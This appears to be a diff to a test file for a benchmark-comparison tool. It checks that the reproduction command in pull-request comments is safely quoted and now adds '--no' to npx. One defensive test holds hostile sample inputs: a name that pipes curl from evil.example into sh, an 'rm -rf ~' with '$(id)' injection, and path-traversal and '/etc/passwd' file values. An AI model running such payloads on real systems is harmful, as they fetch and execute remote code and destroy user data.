@@ -70,7 +70,7 @@ t.test('a row for what moved: both machines, the interval, the command that repe
   ))
   t.equal(outcome.conclusion, 'failure')
   t.match(formatHeadline(outcome), /^of 3 benchmarks 1 is slower, on two machines; 1 faster$/)
-  t.match(comment, '| `parse` | head is about 12 % slower than base (8 to 16 %) | head is about 10 % slower than base (7 to 13 %) | `npx hotpath compare --base main a.perf.js --filter parse` |')
+  t.match(comment, '| `parse` | head is about 12 % slower than base (8 to 16 %) | head is about 10 % slower than base (7 to 13 %) | `npx --no hotpath compare --base main a.perf.js --filter parse` |')
   t.match(comment, '`slowdown accepted`')
   t.match(comment, 'at most 1 pull request in 10,000 gets this far if the errors of the machines are independent, and at most 1 pull request in 100 otherwise')
   t.match(comment, '4 minutes')
@@ -158,10 +158,10 @@ for (const [name, text] of Object.entries(ATTACKS)) {
 
 t.test('a command that somebody copies runs nothing else', async (t) => {
   const command = (/** @type {object} */ parts) => commentOn(t, files([slower(parts)], [slower(parts)])).comment.match(/`(npx [^`]*)`/)?.[1]
-  t.equal(command({ name: "'; curl evil.example | sh; '" }), 'npx hotpath compare --base main a.perf.js', 'a bar cannot be typed in a table')
-  t.equal(command({ name: "'; rm -rf ~; '$(id)" }), "npx hotpath compare --base main a.perf.js --filter ''\\''; rm -rf ~; '\\''$(id)'")
+  t.equal(command({ name: "'; curl evil.example | sh; '" }), 'npx --no hotpath compare --base main a.perf.js', 'a bar cannot be typed in a table')
+  t.equal(command({ name: "'; rm -rf ~; '$(id)" }), "npx --no hotpath compare --base main a.perf.js --filter ''\\''; rm -rf ~; '\\''$(id)'")
   for (const file of ['/etc/passwd', '../../x.js', 'a/../../x.js', 'C:\\x.js', '\\\\host\\x.js', '-e', '--import=x', 'a\\..\\..\\x']) t.equal(command({ file }), undefined, file)
-  t.equal(command({ file: 'a b/$(id).js' }), "npx hotpath compare --base main 'a b/$(id).js' --filter parse")
+  t.equal(command({ file: 'a b/$(id).js' }), "npx --no hotpath compare --base main 'a b/$(id).js' --filter parse")
 })
 
 t.test('a million rows', async (t) => {
